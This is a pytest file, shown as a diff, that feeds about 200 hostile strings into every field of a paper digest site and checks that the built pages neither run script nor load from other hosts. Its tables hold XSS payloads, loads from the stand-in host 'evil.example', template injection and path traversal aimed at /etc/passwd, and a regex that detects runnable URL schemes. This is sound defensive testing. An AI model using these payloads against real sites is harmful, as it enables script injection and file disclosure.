@@ -1,0 +1,230 @@
+"""Two hundred hostile texts in every field of a paper and its analysis: built, and looked at in a browser."""
+
+import http.server
+import re
+import threading
+from dataclasses import replace
+from functools import partial
+from pathlib import Path
+from random import Random
+
+import lxml.html
+import pytest
+
+from generator import record
+from generator.model import CheckedNumber, Related, Section
+from tests.conftest import Command
+from tests.render.samples import HOSTILE
+from tests.samples import DAY, analysis, digest, entry, paper, relevance
+
+CHROMIUM = Path("/usr/bin/chromium")
+WANTED = 204
+LOOKED_AT = 40
+"""Pages of papers that the browser opens, besides the day and the front; the tree of every page is read."""
+EVIL = "http://evil.example"
+TABLE = (
+    *HOSTILE,
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    f"<iframe src='{EVIL}'></iframe>",
+    f"<object data='{EVIL}'></object>",
+    f"<link rel=stylesheet href='{EVIL}/x.css'>",
+    f"<base href='{EVIL}/'>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<form action='{EVIL}'><input autofocus onfocus=alert(1)></form>",
+    "<details open ontoggle=alert(1)>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<body onpageshow=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox)",
+    f"[x]({EVIL}/%22onmouseover=alert(1))",
+    f'[x]({EVIL} "onmouseover=alert(1)")',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    f"![x]({EVIL}/x.png){{: onload=alert(1) }}",
+    "# T {: onclick=alert(1) }",
+    "*x*{: style=position:fixed onmouseover=alert(1) }",
+    "\\href{javascript:alert(1)}{x}",
+    "$\\href{javascript:alert(1)}{x}$",
+    f"$\\includegraphics{{{EVIL}/x.png}}$",
+    "$\\htmlData{x=y}{x}$ $\\htmlId{a}{b}$ $\\url{javascript:alert(1)}$",
+    "$</span><script>alert(1)</script>$",
+    "$$</script><script>alert(1)</script>$$",
+    "</title><script>alert(1)</script>",
+    "</article></main><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "' onmouseover='alert(1)",
+    '" onmouseover="alert(1)',
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\n>alert(1)</script\n>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img/src=`x`onerror=alert(1)>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "{{ config.site_name }} {% include '/etc/passwd' %} {{ ''.__class__ }}",
+    "---\ntitle: x\n---\n<script>alert(1)</script>",
+    "--8<-- '/etc/passwd'",
+    "[TOC]",
+    "!!! danger\n    <script>alert(1)</script>",
+    "``` {: onclick=alert(1) }\nx\n```",
+    "[[x]] ++x++ ==x== ^^x^^ ~~x~~ :smile: [^1]",
+    "\x00\x08\x1b[31m<script>alert(1)</script>",
+    "\u202e<script>alert(1)</script>\u2066",
+    "＜script＞alert(1)＜/script＞ \u2028 \u2029",
+    "../../../../etc/passwd",
+    "..\\..\\x %2e%2e%2f /etc/passwd file:///etc/passwd",
+    "[x](paper:../../etc/passwd) [y](paper:2604.00001)",
+)
+PIECES = (
+    *("<script>", "</script>", "<img src=x ", "onerror=", "alert(1)", ">", '"', "'", "`", "](", "[x](", "javascript:", ")", "{: onclick="),
+    *("}", "$", "$$", "\\(", "\\)", "\n\n", "\n", "    ", "&lt;", "&#60;", "&", "<!--", "-->", "<svg/onload=", "**", "__", "|", "# ", "- "),
+    *("```", "~~~", "\\", "%0a", EVIL, "//evil.example/x.js", "<a href=", "<style>", "\t", "\u2028", "\u202e", "é", "文", "---"),
+)
+
+
+def texts() -> list[str]:
+    """The table, and as many made of pieces as are wanted."""
+    random = Random(9)  # noqa: S311 no secret
+    made = ["".join(random.choices(PIECES, k=random.randint(2, 14))) for _ in range(WANTED - len(TABLE))]
+    return [*TABLE, *made]
+
+
+def hostile(number: int, text: str) -> object:
+    """An entry that says a hostile text wherever anybody else has the word."""
+    id_ = f"2604.{number:05}"
+    foreign = paper(
+        id_,
+        title=f"T {text}",
+        authors=(text, f"A {text}"),
+        affiliations=(text,),
+        abstract=f"We. {text}",
+        categories=("cs.CV", text[:20] or "x"),
+        comment=text,
+        journal_ref=text,
+        doi=text,
+        licence=text,
+        code_url=text,
+        project_url=text,
+    )
+    said = analysis(
+        tldr=f"D {text}",
+        sections=(Section(id="problem", title=text or "x", text=text), Section(id="method", title="M", text=f"- {text}\n- {text}")),
+        findings=(f"F {text}",),
+        limitations=text,
+        model=text,
+        provider=text,
+        analyst="llm",
+        numbers=(CheckedNumber(text="1", verdict="found", evidence=text[:80]),),
+    )
+    related = (Related(id="2604.00001", title=f"R {text}", why=f"W {text}"),)
+    return replace(entry(id_), paper=foreign, analysis=said, related=related, relevance=relevance(reason=f"Y {text}", terms=(text,)))
+
+
+@pytest.fixture
+def built(command: Command, tmp_path: Path) -> Path:
+    """The site of a day with all of them."""
+    made = digest(DAY, tuple(hostile(number, text) for number, text in enumerate(texts(), 1)))  # type: ignore[misc]
+    assert made.summary
+    made = replace(made, summary=replace(made.summary, text="S " + "\n\n".join(TABLE)))
+    record.save(tmp_path / "archive", _storable(made))
+    said = command("build")
+    assert (said.status, said.err) == (0, ""), said
+    return tmp_path
+
+
+def _storable(made: record.Digest) -> record.Digest:
+    return record.loads(record.dumps(made).encode("utf-8", "replace"), "made")
+
+
+@pytest.mark.slow
+def test_hostile_texts_stay_texts(built: Path) -> None:
+    assert len(set(texts())) >= 200
+    paths = sorted((built / "site").rglob("*.html"))
+    assert len(paths) > WANTED
+    for path in paths:
+        assert_harmless(path)
+    outside = [path for path in built.iterdir() if path.name not in ("archive", "docs", "site", ".cache")]
+    assert outside == []
+    if not CHROMIUM.exists():
+        pytest.skip(f"no chromium at {CHROMIUM}")
+    papers = [f"/papers/2604.{number:05}/" for number in range(1, WANTED + 1)][:: WANTED // LOOKED_AT]
+    with serving(built / "site") as address:
+        look(address, ["/", f"/daily/{DAY:%Y}/{DAY}/", "/categories/cs.CV/", *papers])
+
+
+RUNS = re.compile(r"\s*(?:javascript|data|vbscript|file):", re.IGNORECASE)
+
+
+def assert_harmless(path: Path) -> None:
+    """The tree of a page has no element, attribute or address that runs, loads from elsewhere or hides."""
+    for element in lxml.html.parse(path).getroot().iter():
+        if not isinstance(element.tag, str):
+            continue
+        assert element.tag not in ("iframe", "object", "embed", "base", "img", "video", "style"), (path, element.tag)
+        for name, value in element.attrib.items():
+            assert not name.startswith("on"), (path, name)
+            assert name not in ("href", "src", "action", "data") or not RUNS.match(value), (path, value)
+        for name in ("src", "action"):
+            assert "//" not in (element.get(name) or ""), (path, element.get(name))
+        assert element.tag != "script" or element.get("src") or element.get("type") == "application/json", path
+        assert element.tag != "link" or element.get("rel") in ("canonical", "alternate") or "//" not in (element.get("href") or ""), path
+
+
+class Quiet(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 the base class's name
+        pass
+
+
+class serving:  # noqa: N801 a context manager
+    """Serve a folder on a free port."""
+
+    def __init__(self, folder: Path) -> None:
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))
+
+    def __enter__(self) -> str:
+        threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}).start()
+        return f"http://127.0.0.1:{self.httpd.server_port}"
+
+    def __exit__(self, *_: object) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+def look(address: str, paths: list[str]) -> None:
+    """Open pages as a reader does: no dialog, no error of a script, no request to another host, no address that runs."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as started:
+        browser = started.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
+        page = browser.new_page()
+        happened: list[str] = []
+        page.on("dialog", lambda dialog: (happened.append(f"dialog {dialog.message}"), dialog.dismiss()))
+        page.on("request", lambda asked: happened.append(asked.url) if not asked.url.startswith((address, "data:", "blob:")) else None)
+        page.on("pageerror", lambda error: happened.append(f"error {error}"))
+        for path in paths:
+            answer = page.goto(address + path, wait_until="load")
+            assert answer and answer.ok, path
+            links = page.eval_on_selector_all("a[href], area[href], form", "all => all.map(each => each.href || each.action)")
+            happened += [link for link in links if RUNS.match(str(link))]
+            assert page.url.startswith(address), path
+            assert happened == [], path
+        browser.close()
+
+
+@pytest.mark.parametrize("id_", ["../../../evil", "/etc/evil", "..", "2604.00001/../../x", "a\\..\\b", "x\ny", "", ".", "con\x00"])
+def test_no_id_of_a_record_leads_out_of_docs(command: Command, tmp_path: Path, id_: str) -> None:
+    one = entry()
+    record.save(tmp_path / "archive", digest(entries=(replace(one, paper=replace(one.paper, id=id_)),)))
+    said = command("render")
+    assert "Traceback" not in said.err
+    outside = {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*") if path.is_file()}
+    assert outside <= {"archive", "docs", ".cache"}
+    assert not any((tmp_path.parent / name).exists() for name in ("evil", "evil.md"))
